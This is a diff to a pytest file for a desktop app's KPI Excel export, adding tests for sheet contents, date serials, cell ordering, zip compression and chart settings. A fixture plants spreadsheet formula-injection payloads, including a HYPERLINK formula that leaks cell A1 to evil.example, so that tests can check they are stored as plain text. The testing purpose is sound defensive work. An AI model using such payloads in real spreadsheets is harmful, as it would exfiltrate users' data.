@@ -2,14 +2,21 @@
 
 from __future__ import annotations
 
+import datetime as dt
 import io
 import os
+from zipfile import ZIP_DEFLATED, ZipFile
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from openpyxl import load_workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from openpyxl.utils.datetime import to_excel
 from openpyxl.worksheet.formula import ArrayFormula
 from test_kpis import build_kpi_plan
 
+from relman_desktop.exports import kpi_workbook
 from relman_desktop.exports.kpi_workbook import put_text, write_kpi_workbook
 from relman_desktop.exports.safe_write import ExportCancelled, write_atomically
 from relman_desktop.services import kpis
@@ -26,20 +33,31 @@ KPI_SHEETS = [
 ]
 
 
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
 @pytest.fixture
-def workbook(ctx, tmp_path):
+def kpi_data(ctx):
     from relman_desktop.models.entities import Change
 
     build_kpi_plan(ctx.plan)
     with ctx.plan.write() as s:
-        s.query(Change).filter_by(
-            key="CHG-1"
-        ).one().title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+        s.query(Change).filter_by(key="CHG-1").one().title = EVIL
         s.query(Change).filter_by(key="CHG-2").one().title = "@SUM(1+1)\x07"
         s.query(Change).filter_by(key="CHG-3").one().title = "#N/A"
+    return kpis.collect(ctx, by="month")
+
+
+@pytest.fixture
+def workbook_path(kpi_data, tmp_path):
     target = tmp_path / "kpis.xlsx"
-    write_kpi_workbook(kpis.collect(ctx, by="month"), target)
-    return load_workbook(target)
+    write_kpi_workbook(kpi_data, target)
+    return target
+
+
+@pytest.fixture
+def workbook(workbook_path):
+    return load_workbook(workbook_path)
 
 
 def test_sheets_in_reading_order(workbook):
@@ -114,7 +132,7 @@ def test_user_text_never_becomes_a_formula(workbook):
     titles = {changes.cell(r, 1).value: changes.cell(r, 2) for r in range(2, changes.max_row + 1)}
     evil = titles["CHG-1"]
     assert evil.data_type == "s"
-    assert evil.value == '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert evil.value == EVIL
     assert evil.quotePrefix
     at = titles["CHG-2"]
     assert at.data_type == "s" and at.value == "@SUM(1+1)"  # the bell character is dropped
@@ -231,3 +249,124 @@ def test_repeated_user_text_in_any_column_stays_text(ctx, tmp_path):
         ws["F2"].number_format == "yyyy-mm-dd hh:mm"
         and ws["F3"].number_format == "yyyy-mm-dd hh:mm"
     )
+
+
+# The raw sheets' data columns (the formula columns after them are checked above and, computed,
+# by LibreOffice below), in the order the sheet has them.
+RAW_COLUMNS = {
+    "Deployments": (
+        "deployments",
+        "release_key application environment wave started_at finished_at outcome incidents "
+        "hotfix failure_detected_at restored_at period",
+    ),
+    "Releases": (
+        "releases",
+        "key title application planned_end deployed_at period production_deployments "
+        "failed_deployments",
+    ),
+    "Changes": (
+        "changes",
+        "key title category release_key application created_at deployed_at period caused_incident",
+    ),
+    "Approvals": (
+        "approvals",
+        "release_key application stage approver decision requested_at decided_at period",
+    ),
+}
+
+
+def _read_back(value):
+    """A collected value as the workbook gives it back: times as UTC wall-clock, dates as
+    midnight, text without the control characters Excel refuses."""
+    if isinstance(value, dt.datetime):
+        value = value.astimezone(dt.UTC).replace(tzinfo=None)
+    elif isinstance(value, dt.date):
+        value = dt.datetime.combine(value, dt.time())
+    elif isinstance(value, str):
+        value = ILLEGAL_CHARACTERS_RE.sub("", value)
+    return type(value), value
+
+
+def test_raw_sheets_hold_every_collected_row_in_its_place(kpi_data, workbook):
+    for sheet, (rows_name, fields) in RAW_COLUMNS.items():
+        ws = workbook[sheet]
+        rows = getattr(kpi_data, rows_name)
+        assert ws.max_row == len(rows) + 1, sheet
+        names = fields.split()
+        for r, row in enumerate(rows, 2):
+            got = [_read_back(ws.cell(r, c).value) for c in range(1, len(names) + 1)]
+            assert got == [_read_back(getattr(row, name)) for name in names], (sheet, r)
+    deployments = workbook["Deployments"]
+    # REL-6's failed deployment has no failure times: empty cells, not zeros or blanks
+    assert [deployments.cell(8, c).value for c in (10, 11)] == [None, None]
+    assert deployments["E2"].number_format == "yyyy-mm-dd hh:mm"
+    assert workbook["Releases"]["D2"].number_format == "yyyy-mm-dd"
+
+
+utc_offsets = st.builds(
+    dt.timezone, st.timedeltas(min_value=dt.timedelta(hours=-14), max_value=dt.timedelta(hours=14))
+)
+
+
+@given(
+    st.datetimes(
+        min_value=dt.datetime(1900, 3, 2),
+        max_value=dt.datetime(9998, 12, 31),
+        timezones=st.just(dt.UTC) | utc_offsets,
+    )
+)
+def test_times_are_the_serial_numbers_openpyxl_writes(moment):
+    """The raw sheets write times as numbers themselves; they must be openpyxl's to the last
+    bit, or the hour formulas would compute other numbers than compute_kpis."""
+    assert kpi_workbook._serial(moment) == to_excel(moment.astimezone(dt.UTC).replace(tzinfo=None))
+    assert kpi_workbook._date_serial(moment.date()) == to_excel(moment.date())
+
+
+def test_cells_are_in_row_order_as_excel_requires(workbook_path):
+    """Excel calls a sheet whose cells are out of order corrupt (openpyxl reads it anyway);
+    the raw sheets put their cells into the sheet themselves."""
+    from xml.etree.ElementTree import fromstring
+
+    from openpyxl.utils.cell import column_index_from_string, coordinate_from_string
+
+    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    with ZipFile(workbook_path) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert len(sheets) == 14
+        for name in sheets:
+            rows = fromstring(archive.read(name)).findall("m:sheetData/m:row", ns)
+            numbers = [int(row.get("r")) for row in rows]
+            assert numbers == sorted(set(numbers)), name
+            for row in rows:
+                places = [coordinate_from_string(c.get("r")) for c in row.findall("m:c", ns)]
+                assert {r for _, r in places} <= {int(row.get("r"))}, (name, row.get("r"))
+                columns = [column_index_from_string(letter) for letter, _ in places]
+                assert columns == sorted(set(columns)), (name, row.get("r"))
+
+
+def test_workbook_is_a_deflated_zip(workbook_path):
+    with ZipFile(workbook_path) as archive:
+        assert archive.testzip() is None
+        assert {info.compress_type for info in archive.infolist()} == {ZIP_DEFLATED}
+        names = archive.namelist()
+    assert "xl/workbook.xml" in names and "xl/tables/table1.xml" in names
+    assert sum(name.startswith("xl/charts/chart") for name in names) == len(KPI_SHEETS)
+
+
+def test_line_charts_draw_straight_segments_and_sheets_print_one_page_wide(workbook_path, workbook):
+    """A smoothed curve overshoots between points (a recovery time below zero); printed or made a
+    PDF, a KPI sheet's table and chart come out side by side, and long sheets repeat their header."""
+    import re
+
+    with ZipFile(workbook_path) as archive:
+        charts = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/charts/chart")]
+    lines = [c for c in charts if re.search(r"<(c:)?lineChart>", c)]
+    assert lines, "no line chart"
+    for xml in lines:  # the chart namespace may be the default one or prefixed c:
+        series = re.findall(r"<(?:c:)?ser>.*?</(?:c:)?ser>", xml, re.S)
+        assert series and all(re.search(r'<(?:c:)?smooth val="0"\s*/>', one) for one in series)
+    for ws in workbook.worksheets:
+        assert ws.page_setup.orientation == "landscape", ws.title
+        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
+        assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0), ws.title
+        assert ws.print_title_rows == "$1:$1", ws.title
